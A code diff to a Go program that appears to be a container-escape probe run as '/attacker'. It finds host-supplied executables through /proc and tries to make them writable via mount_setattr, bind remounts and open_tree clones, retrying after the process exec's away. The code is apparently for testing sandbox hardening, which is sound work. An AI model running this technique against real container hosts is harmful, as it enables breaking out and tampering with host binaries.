@@ -5,6 +5,7 @@ import (
 	"os"
 	"strconv"
 	"strings"
+	"time"
 
 	"golang.org/x/sys/unix"
 )
@@ -32,33 +33,48 @@ func exegrab(stop string) {
 			if known[p] || p == self {
 				continue
 			}
-			known[p] = true
+			// A process is looked at again until it runs something
+			// else than the container's programs: caught first as a
+			// shell, it may exec what is sought a moment later.
 			dir := "/proc/" + strconv.Itoa(p)
 			link, err := os.Readlink(dir + "/exe")
-			if err != nil || strings.HasPrefix(link, "/bin/") || strings.HasPrefix(link, "/usr/") || link == "/attacker" {
+			if err != nil || strings.HasPrefix(link, "/bin/") || strings.HasPrefix(link, "/usr/") || strings.HasPrefix(link, "/sbin/") || link == "/attacker" {
 				continue
 			}
+			known[p] = true
 			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
 			if err != nil {
 				continue // exec'd meanwhile
 			}
-			attackExe(fd, link)
+			attackExe(fd, link, "")
+			// Once the process has exec'd something else or exited, the
+			// file runs no more (no ETXTBSY): again.
+			for i := 0; i < 600; i++ {
+				if l, err := os.Readlink(dir + "/exe"); err != nil || l != link {
+					break
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+			attackExe(fd, link, "after-exec/")
 			fmt.Println("done")
 			return
 		}
 	}
 }
 
-// attackExe tries each way of writing the file open as fd (O_PATH).
-func attackExe(fd int, link string) {
-	var sfs unix.Statfs_t
-	_ = unix.Fstatfs(fd, &sfs)
-	fmt.Printf("GRABBED %s %#x\n", link, sfs.Type)
+// attackExe tries each way of writing the file open as fd (O_PATH),
+// naming each attempt with prefix.
+func attackExe(fd int, link, prefix string) {
+	if prefix == "" {
+		var sfs unix.Statfs_t
+		_ = unix.Fstatfs(fd, &sfs)
+		fmt.Printf("GRABBED %s %#x\n", link, sfs.Type)
+	}
 	say := func(name string, err error) {
 		if err == nil {
-			fmt.Printf("%s: ok\n", name)
+			fmt.Printf("%s%s: ok\n", prefix, name)
 		} else {
-			fmt.Printf("%s: %v\n", name, err)
+			fmt.Printf("%s%s: %v\n", prefix, name, err)
 		}
 	}
 	self := "/proc/self/fd/" + strconv.Itoa(fd)
@@ -79,6 +95,8 @@ func attackExe(fd int, link string) {
 	// on, directly, then on a clone of it.
 	say("setattr", unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}))
 	tryWrite("setattr-write", self, unix.O_WRONLY)
+	say("remount-rw", unix.Mount("", self, "", unix.MS_REMOUNT|unix.MS_BIND, ""))
+	tryWrite("remount-write", self, unix.O_WRONLY)
 	clone, err := unix.OpenTree(fd, "", unix.AT_EMPTY_PATH|unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
 	say("clone", err)
 	if err == nil {
